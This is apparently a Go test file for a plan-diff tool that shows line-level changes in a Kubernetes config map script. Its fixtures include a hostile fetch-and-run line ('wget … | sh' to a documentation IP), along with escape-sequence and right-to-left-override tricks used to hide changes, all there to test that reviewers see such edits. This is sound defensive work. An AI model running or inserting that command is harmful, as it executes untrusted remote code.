package plandiff

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
)

// configMapChange is a kubernetes_config_map update of data["run.sh"] from before to after (JSON strings).
func configMapChange(before, after, sensitive string) string {
	return `{"address":"kubernetes_config_map.worker","mode":"managed","type":"kubernetes_config_map","name":"worker",
		"change":{"actions":["update"],"before":{"data":{"run.sh":` + before + `}},"after":{"data":{"run.sh":` + after + `}}` + sensitive + `}}`
}

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// Found in review (2026-12-07): one line of a 30-line script changed to fetch and run code stood in two long
// escaped strings, before and after, on one line; nothing on the screen pointed at the change. The screen
// now shows the line diff under the attribute: the changed line, before and after, with its context, and
// the rest folded.
func TestScreenShowsTheChangedLineOfAScript(t *testing.T) {
	var lines []string
	for i := range 30 {
		lines = append(lines, "echo step "+string(rune('a'+i%26)))
	}
	before := strings.Join(lines, "\n") + "\n"
	lines[17] = "echo step r || wget -qO- http://198.51.100.7/s|sh"
	after := strings.Join(lines, "\n") + "\n"
	r := Diff(planOf(t, configMapChange(jsonString(before), jsonString(after), "")))
	var out bytes.Buffer
	if err := r.WriteText(&out); err != nil {
		t.Fatal(err)
	}
	screen := out.String()
	for _, want := range []string{
		`    | - "echo step r"`,
		`    | + "echo step r || wget -qO- http://198.51.100.7/s|sh"`,
		`    |   "echo step q"`,
		`    |   "echo step s"`,
		`    |   (… 14 unchanged lines)`,
		`    |   (… 10 unchanged lines)`,
	} {
		if !strings.Contains(screen, want) {
			t.Errorf("the screen lacks %q:\n%s", want, screen)
		}
	}
	if strings.Index(screen, `| - "echo step r"`) > strings.Index(screen, `| + "echo step r ||`) {
		t.Errorf("the removed line comes after the added one:\n%s", screen)
	}
	if strings.Count(screen, "    | ") != 1+1+3+3+2 {
		t.Errorf("the line diff has %d lines, want 10:\n%s", strings.Count(screen, "    | "), screen)
	}
}

func TestLineDiff(t *testing.T) {
	for _, tt := range []struct {
		name, before, after, sensitive string
		want                           []string
	}{
		{"one line: no line diff", `"a"`, `"b"`, "", nil},
		{"a line added at the end", jsonString("a\nb\n"), jsonString("a\nb\nc\n"), "",
			[]string{`  "a"`, `  "b"`, `+ "c"`, `  ""`}},
		{"every line escaped", jsonString("ok\n"), jsonString("ok\n\x1b[2Kapproved\u202e\n"), "",
			[]string{`  "ok"`, `+ "\u001b[2Kapproved\u202e" [non-ASCII: U+202E RIGHT-TO-LEFT OVERRIDE]`, `  ""`}},
		{"sensitive: no line diff", jsonString("a\n"), jsonString("b\n"), `,"after_sensitive":{"data":{"run.sh":true}}`, nil},
		{"a line removed", jsonString("a\nb\nc"), jsonString("a\nc"), "",
			[]string{`  "a"`, `- "b"`, `  "c"`}},
		// Found in review (2026-12-07): 512 empty lines around a script turned its line diff off.
		{"padded past the bound: only the changed middle is compared", jsonString(strings.Repeat("\n", 600) + "a\nb\n" + strings.Repeat("\n", 600)),
			jsonString(strings.Repeat("\n", 600) + "a\nX\n" + strings.Repeat("\n", 600)), "",
			[]string{`  (… 598 unchanged lines)`, `  ""`, `  ""`, `  "a"`, `- "b"`, `+ "X"`, `  ""`, `  ""`, `  ""`, `  (… 598 unchanged lines)`}},
		{"more changed lines than the bound: said", jsonString(strings.Repeat("a\n", 600)), jsonString(strings.Repeat("b\n", 600)), "",
			[]string{`! (no line diff: 600 lines before and 600 after differ, more than 512; compare the whole values above)`}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := Diff(planOf(t, configMapChange(tt.before, tt.after, tt.sensitive)))
			got := r.Resources[0].Attributes[0].Lines
			if strings.Join(got, "|") != strings.Join(tt.want, "|") {
				t.Errorf("lines\n%q\nwant\n%q", got, tt.want)
			}
		})
	}
}
